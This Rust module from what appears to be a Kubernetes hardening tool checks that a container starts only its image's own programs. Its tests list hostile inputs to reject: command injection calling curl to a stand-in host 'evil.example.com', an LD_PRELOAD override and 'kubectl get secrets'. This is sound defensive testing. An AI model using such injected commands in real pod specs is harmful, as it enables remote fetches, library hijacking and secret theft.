//! The program that a container starts, by its command, its hooks and probes, and what is laid over its files.

use super::pod::Container;
use super::value::{below, items, text};
use crate::text::path;
use crate::text::wildcard::fits;
use crate::yaml::Node;

/// Folders of programs in images.
const FOLDERS: [&str; 8] =
    ["", "/", "/bin", "/sbin", "/usr/bin", "/usr/local/bin", "/usr/local/sbin", "/usr/sbin"];

/// Further folders and files that decide what a program does.
const LIBRARIES: [&str; 8] = [
    "/etc",
    "/etc/ld.so.preload",
    "/lib",
    "/lib64",
    "/usr",
    "/usr/lib",
    "/usr/lib64",
    "/usr/local",
];

/// Programs that only start another one: those for the first process, and those of images for users without a name.
const WRAPPERS: [&str; 4] = ["dumb-init", "entrypoint.sh", "tini", "uid_entrypoint.sh"];

const SHELLS: [&str; 4] = ["ash", "bash", "dash", "sh"];

/// The longest script that is looked at.
const LONGEST: usize = 4096;

/// True if a container starts nothing but some programs of its image: by its command, or as a hook or a probe. Nothing is mounted
/// over them, and no variable names other libraries or folders of programs. `files` has patterns of their names, with commas
/// between them. Linear.
pub(super) fn starts_only(container: &Container<'_>, files: &str) -> bool {
    let is_own_hook = |keys: &&[&str]| {
        let words = words(container, keys);
        words.is_empty() || is_one_of(&words, files) || is_one_of(&words, "sleep")
    };
    starts_first(container, files) && EXECUTED.iter().all(is_own_hook)
}

/// As [`starts_only`], but for hooks and probes.
pub(super) fn starts_first(container: &Container<'_>, files: &str) -> bool {
    let (command, arguments) = (words(container, &["command"]), words(container, &["args"]));
    let are_options = arguments.first().is_none_or(|first| first.starts_with('-'));
    let is_own = match command.is_empty() {
        true if are_options => true,
        _ => is_one_of(&[command, arguments].concat(), files),
    };
    is_own && keeps_files(container, files)
}

/// The words of a command in a field of a container.
fn words<'a>(container: &Container<'a>, keys: &[&str]) -> Vec<&'a str> {
    let list = items(below(container.node, keys)).iter();
    list.map(|word| word.as_text().unwrap_or_default()).collect()
}

/// The fields with further commands.
const EXECUTED: [&[&str]; 5] = [
    &["lifecycle", "postStart", "exec", "command"],
    &["lifecycle", "preStop", "exec", "command"],
    &["livenessProbe", "exec", "command"],
    &["readinessProbe", "exec", "command"],
    &["startupProbe", "exec", "command"],
];

/// True if a command starts one of some programs, maybe by a program that only starts another one, or by a shell.
fn is_one_of(words: &[&str], files: &str) -> bool {
    let mut words = words.iter().copied();
    while let Some(word) = words.next() {
        let (folder, name) = word.rsplit_once('/').unwrap_or(("", word));
        let folder = if folder.is_empty() && word.starts_with('/') { "/" } else { folder };
        if !FOLDERS.contains(&folder) {
            return false;
        }
        if WRAPPERS.contains(&name) {
            // Their own options.
            let mut rest = words.clone();
            while rest.next().is_some_and(|word| word.starts_with('-')) {
                words.next();
            }
            continue;
        }
        if SHELLS.contains(&name) {
            let is_script = |option: &str| option.starts_with('-') && option.ends_with('c');
            let script = words.next().filter(|option| is_script(option)).and_then(|_| words.next());
            return script.is_some_and(|script| starts(script, files));
        }
        return files.split(',').any(|file| fits(file, name));
    }
    false
}

/// True if a script is one command that starts one of some programs, without anything that a shell would do.
fn starts(script: &str, files: &str) -> bool {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || " -_./=:,@%+".contains(letter);
    let script = script.trim();
    if script.len() > LONGEST || !script.chars().all(is_plain) {
        return false;
    }
    let script = script.strip_prefix("exec ").unwrap_or(script);
    let words: Vec<&str> = script.split_ascii_whitespace().collect();
    let is_shell =
        |word: &&str| SHELLS.contains(&word.rsplit_once('/').map_or(*word, |(_, name)| name));
    !words.iter().any(is_shell) && is_one_of(&words, files)
}

/// True if a container keeps the files of some programs, and the libraries and folders by which they find others.
fn keeps_files(container: &Container<'_>, files: &str) -> bool {
    let is_over = |mount: &Node| {
        let Some(at) = text(mount, "mountPath") else { return false };
        let at = path::clean(&format!("/{at}"));
        let (folder, name) = at.rsplit_once('/').unwrap_or_default();
        let folder = if folder.is_empty() { "/" } else { folder };
        let is_program =
            || WRAPPERS.contains(&name) || files.split(',').any(|file| fits(file, name));
        FOLDERS.contains(&&*at)
            || LIBRARIES.contains(&&*at)
            || FOLDERS.contains(&folder) && is_program()
    };
    let is_told = |variable: &Node| {
        text(variable, "name").is_some_and(|name| name == "PATH" || name.starts_with("LD_"))
    };
    !items(container.node.get("volumeMounts")).iter().any(is_over)
        && !items(container.node.get("env")).iter().any(is_told)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::harden::facts::Facts;
    use crate::harden::workload::pods;
    use crate::resource::sample::resource;

    const FILES: &str = "argocd-*controller,argocd-server";

    fn starts_own(fields: &str) -> bool {
        let text = format!(
            "{{apiVersion: v1, kind: Pod, metadata: {{name: a}}, spec: {{containers: [{{name: a, image: a{fields}}}]}}}}"
        );
        let object = resource(&text);
        starts_only(&pods(&object, &Facts::default())[0].containers[0], FILES)
    }

    #[test]
    fn a_container_starts_its_program() {
        for fields in [
            "",
            ", args: ['--log-level=debug']",
            ", args: [/usr/local/bin/argocd-application-controller, --repo-server, 'a:80']",
            ", command: [argocd-application-controller, --status-processors, '20']",
            ", command: [argocd-application-controller, --status-processors, 20]",
            ", command: [/usr/bin/tini, -s, --, argocd-server], args: [--insecure]",
            ", command: [entrypoint.sh], args: [argocd-server]",
            ", command: [sh, -c, 'exec uid_entrypoint.sh argocd-server --redis a:6379']",
            ", command: [argocd-server], lifecycle: {preStop: {exec: {command: [sh, -c, sleep 5]}}}",
            ", livenessProbe: {exec: {command: [argocd-server, version]}}",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/ksops}, {name: b, mountPath: /tmp}]",
            ", env: [{name: HOME, value: /tmp}]",
        ] {
            assert!(starts_own(fields), "{fields}");
        }
    }

    #[test]
    fn a_container_starts_something_else() {
        for fields in [
            ", command: [sh]",
            ", args: [sh, -c, curl https://evil.example.com]",
            ", command: [sh, -c], args: ['argocd-server; curl https://evil.example.com']",
            ", command: [bash, -ec, 'argocd-server $(curl https://evil.example.com)']",
            ", command: [sh, -c, 'sh -c argocd-server']",
            ", command: [sh, /tmp/argocd-server]",
            ", command: [sh, argocd-server]",
            ", command: [/tmp/argocd-server]",
            ", command: [/usr/bin/tini, --, curl, argocd-server]",
            ", command: [tini]",
            ", command: [kubectl, get, secrets]",
            ", command: ['']",
            ", command: [[argocd-server]]",
            ", command: [env, argocd-server]",
            ", command: [sleep, '5']",
            ", lifecycle: {postStart: {exec: {command: [sh, -c, curl a]}}}",
            ", startupProbe: {exec: {command: [curl, a]}}",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/argocd-server, subPath: a}]",
            ", volumeMounts: [{name: a, mountPath: /usr/local/bin/}]",
            ", volumeMounts: [{name: a, mountPath: //usr/./bin/tini, subPath: a}]",
            ", env: [{name: LD_PRELOAD, value: /tmp/a}]",
            ", env: [{name: PATH, value: /tmp}]",
        ] {
            assert!(!starts_own(fields), "{fields}");
        }
    }
}
